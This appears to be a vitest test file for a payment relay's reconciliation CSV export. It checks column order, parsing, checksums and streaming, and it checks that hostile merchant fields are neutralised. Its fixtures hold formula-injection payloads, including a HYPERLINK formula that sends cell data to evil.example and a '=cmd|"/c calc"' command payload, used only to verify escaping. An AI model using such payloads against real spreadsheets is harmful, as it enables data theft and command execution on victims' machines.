// The reconciliation file on SQLite and PostgreSQL: the 36 columns in the spec's order and spelling,
// semicolons, every record of the days (chargebacks and their reversals included) parsed back by a
// standard CSV parser to the same values, hostile merchant fields kept harmless (formulas escaped,
// quotes, separators and line breaks quoted, non-Latin names intact), the download through the API
// and the daily file with its checksum, byte for byte the same.

import { createHash } from 'node:crypto';
import { mkdtempSync, readFileSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { parse } from 'csv-parse/sync';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { RECONCILIATION_COLUMNS } from '../../../spec/params/reconciliation.js';
import { defaultReportsConfig } from '../../src/config/reports.js';
import { FILE_CHUNK, reconciliationFile } from '../../src/reports/reconciliation-file.js';
import { text as text_ } from 'node:stream/consumers';
import type { TestRelay } from '../helper.js';
import { DATABASES, startRelayOn } from './relays.js';
import { paymentRecord } from './payment-rows.js';

const at = (h: number, m = 0) => Date.UTC(2026, 10, 20, h, m, 0);

/** Merchant text as integrations send it, some of it meant to hurt a spreadsheet. */
const HOSTILE: { descriptor: string; holder: string }[] = [
  { descriptor: '=HYPERLINK("http://evil.example/?x="&A1,"click")', holder: 'Jane Jones' },
  { descriptor: 'Shop "quoted"; and; semicolons', holder: "O'Brien; \"Bob\"" },
  { descriptor: 'two\r\nlines\nand a third', holder: 'Зоя Łukasz 王小明 محمد' },
  { descriptor: '+1+2', holder: '@SUM(A1:A2)' },
  { descriptor: '-3-4', holder: '\tTAB' },
];
const FORMULA_START = /^[=+\-@\t\r]/;

describe.each(DATABASES)('the reconciliation file on %s', (kind) => {
  let relay: TestRelay;
  let entityId: string;
  let fileDir: string;
  const ids: string[] = [];

  beforeAll(async () => {
    fileDir = mkdtempSync(join(tmpdir(), 'paywidgets-files-'));
    relay = await startRelayOn(kind, { reports: { ...defaultReportsConfig, fileDir } }, { settlementFees: { '*': { basisPoints: 100, fixed: 10 } } });
    entityId = relay.merchant.entityId;
    const debits = HOSTILE.map((h, i) =>
      paymentRecord({ entityId, createdAt: at(1, i), amount: 1000 * (i + 1), answer: { descriptor: h.descriptor, card: { last4Digits: '0000', holder: h.holder } } }),
    );
    const first = debits[0]!;
    const chargeback = paymentRecord({ entityId, createdAt: at(5), paymentType: 'CB', amount: 1000, referencedId: first.id, resultCode: '000.100.220', answer: { result: { code: '000.100.220', description: '=cmd|"/c calc"!A1; fraud' } } });
    const reversal = paymentRecord({ entityId, createdAt: at(6), paymentType: 'CR', amount: 1000, referencedId: chargeback.id });
    const all = [...debits, chargeback, reversal];
    ids.push(...all.map((p) => p.id));
    await relay.ctx.store.transaction(async (tx) => {
      for (const p of all) await tx.payments.insert(p);
    });
    await relay.ctx.jobs.runDue();
  });
  afterAll(async () => {
    await relay.close();
    rmSync(fileDir, { recursive: true, force: true });
  });

  const download = () => relay.get(`/reports/v1/reconciliations/file?entityId=${entityId}&date.from=2026-11-20&date.to=2026-11-20`);

  it('downloads the columns in order, every record once, and parses back to the same values', async () => {
    const res = await download();
    expect(res.statusCode).toBe(200);
    expect(res.headers['content-type']).toBe('text/csv; charset=utf-8');
    expect(res.headers['content-disposition']).toBe(`attachment; filename="reconciliation-${entityId}-2026-11-20.csv"`);
    expect(res.body.split('\r\n')[0]).toBe(RECONCILIATION_COLUMNS.join(';'));

    const rows = parse(res.body, { delimiter: ';', columns: true, record_delimiter: '\r\n' }) as Record<string, string>[];
    // 5 debits and their 5 fees, a chargeback and its reversal.
    expect(rows).toHaveLength(12);
    expect(Object.keys(rows[0]!)).toEqual([...RECONCILIATION_COLUMNS]);
    expect(new Set(rows.map((r) => r.UniqueID))).toEqual(new Set(ids));

    const aggregation = (await relay.get(`/reports/v1/reconciliations/aggregations?entityId=${entityId}&date.from=2026-11-20&date.to=2026-11-20`)).json().aggregations[0];
    const records = (await relay.get(`/reports/v2/reconciliations/aggregations/${aggregation.id}?entityId=${entityId}`)).json().records as Record<string, any>[];
    expect(rows.map((r) => [r.ReconciliationType, r.PaymentType, r.Cashflow, r.UniqueID, r.Amount, r.SettlementAmount, r.SettlementCurrency, r.SettlementFxRate, r.MatchingStatus])).toEqual(
      records.map((r) => [r.reconciliationType, r.paymentType, r.settlement.cashflow, r.id, r.amount, r.settlement.amount, r.settlement.currency, r.settlement.fxRate, r.matchingStatus]),
    );

    const settled = rows.filter((r) => r.ReconciliationType === 'SETTLED');
    HOSTILE.forEach((h, i) => {
      const row = settled[i]!;
      // A value a spreadsheet would run as a formula comes back with an apostrophe before it; the rest exactly.
      expect(row.Descriptor).toBe(FORMULA_START.test(h.descriptor) ? `'${h.descriptor}` : h.descriptor);
      expect(row.AccountHolder).toBe(FORMULA_START.test(h.holder) ? `'${h.holder}` : h.holder);
      expect(row.SettlementFileFormat).toBe('CSV');
      expect(row.TxRequestTime).toBe(`2026-11-20 01:0${i}:00`);
    });
    const chargeback = rows.find((r) => r.ReconciliationType === 'CHARGEBACK')!;
    expect(chargeback).toMatchObject({ Cashflow: 'NEG', ReasonCode: '000.100.220', ReasonDesc: `'=cmd|"/c calc"!A1; fraud`, ChargebackId: chargeback.UniqueID, MatchedTransactions: ids[0] });
    const reversal = rows.find((r) => r.ReconciliationType === 'CHARGEBACK REVERSAL')!;
    expect(reversal).toMatchObject({ Cashflow: 'POS', ChargebackId: chargeback.UniqueID });
    // Nothing in the raw text starts a cell with a formula character.
    expect(res.body).not.toMatch(/(^|;|\r\n)"?[=+@]/);
  });

  it('writes the day to the configured folder with its checksum, the same bytes as the download', async () => {
    const path = join(fileDir, entityId, `reconciliation-${entityId}-2026-11-20.csv`);
    const bytes = readFileSync(path);
    expect(bytes.toString('utf8')).toBe((await download()).body);
    const sha256 = createHash('sha256').update(bytes).digest('hex');
    expect(readFileSync(`${path}.sha256`, 'utf8')).toBe(`${sha256}  reconciliation-${entityId}-2026-11-20.csv\n`);
    const list = (await relay.get(`/reports/v1/reconciliations/aggregations?entityId=${entityId}&date.from=2026-11-20&date.to=2026-11-20`)).json();
    expect(list.aggregations[0].fileSha256).toBe(sha256);
  });

  it('reads a file of more records than one chunk, each once, in day and sequence order', async () => {
    const big = 'b'.repeat(32);
    const count = FILE_CHUNK * 2 + 7;
    const records = Array.from({ length: count }, (_, i) => {
      const day = i < count / 2 ? '2026-11-01' : '2026-11-02';
      return {
        aggregation_id: `${day === '2026-11-01' ? 'a' : 'b'}${'0'.repeat(31)}`, seq: i + 1, entity_id: big, day, reconciliation_type: 'SETTLED', payment_id: i.toString(16).padStart(32, '0'),
        payment_type: 'DB', cashflow: 'POS' as const, amount: i, currency: 'EUR', brand: 'VISA', tx_request_time: at(1), settlement_amount: i, settlement_currency: 'EUR', settlement_fee: null,
        fx_rate: '1.00', settlement_date: '2026-11-03', settlement_status: 'SUCCESS', merchant_transaction_id: null, descriptor: null, account_last4: null, account_holder: null,
        connector_tx_id1: null, reason_code: null, reason_desc: null, matching_status: 'MATCHED', matched_transactions: null, chargeback_id: null,
      };
    });
    await relay.ctx.store.settlement.insertReconciliationRecords(records);
    const text = await text_(reconciliationFile(relay.ctx.store.settlement, { id: big, name: 'Big', merchantId: big }, '2026-11-01', '2026-11-02'));
    const rows = parse(text, { delimiter: ';', columns: true }) as Record<string, string>[];
    expect(rows.map((r) => r.UniqueID)).toEqual(records.map((r) => r.payment_id));

    // A reader that goes away after the first chunk stops the reading: no chunk is read past the
    // one read ahead.
    const reads: Promise<unknown>[] = [];
    const counting = {
      fileRowsAfter: (...args: Parameters<typeof relay.ctx.store.settlement.fileRowsAfter>) => {
        const read = relay.ctx.store.settlement.fileRowsAfter(...args);
        reads.push(read);
        return read;
      },
    };
    const file = reconciliationFile(counting as unknown as typeof relay.ctx.store.settlement, { id: big, name: 'Big', merchantId: big }, '2026-11-01', '2026-11-02');
    const closed = new Promise((resolve) => file.once('close', resolve));
    let taken = 0;
    // Leaving the loop destroys the stream.
    for await (const _chunk of file) if (++taken === 1) break;
    await closed;
    // Every read asked for has answered, and the writer has seen it: any next read would be asked now.
    await Promise.allSettled(reads);
    await new Promise((resolve) => setImmediate(resolve));
    expect(reads.length).toBeLessThanOrEqual(2);
  }, 120_000);

  it('answers a range without settlements with the header alone, and refuses bad ranges in the API shape', async () => {
    const empty = await relay.get(`/reports/v1/reconciliations/file?entityId=${entityId}&date.from=2026-10-01&date.to=2026-10-02`);
    expect(empty.statusCode).toBe(200);
    expect(empty.body).toBe(`${RECONCILIATION_COLUMNS.join(';')}\r\n`);
    const bad = await relay.get(`/reports/v1/reconciliations/file?entityId=${entityId}&date.from=2026-10-01`);
    expect(bad.statusCode).toBe(400);
    expect(bad.json().result.parameterErrors[0].name).toBe('date.to');
  });
});
